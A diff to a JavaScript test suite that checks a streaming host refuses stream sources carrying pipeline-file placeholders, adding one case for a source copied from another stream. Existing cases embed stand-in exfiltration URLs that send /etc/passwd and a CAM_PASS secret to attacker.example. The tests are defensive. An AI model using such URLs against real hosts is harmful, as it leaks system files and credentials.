@@ -97,6 +97,7 @@ describe('a host whose pipeline file has placeholders', async () => {
     ['of a file', `rtsp://attacker.example/${placeholder('file', '/etc/passwd')}`],
     ['that the pipeline file has in another source', `rtsp://attacker.example/${placeholder('env', 'CAM_PASS')}`],
     ['that the pipeline file has in a sink', placeholder('env', 'HOOK_PATH')],
+    ['that is the source of another stream', sources.clip],
   ])('refuses one %s in a request', async (_, source) => {
     const refused = { code: 'SOURCE_FORBIDDEN', message: expect.stringContaining('placeholders are resolved only') };
     await expect(host.host.addStream({ id: 'other', source })).rejects.toMatchObject(refused);
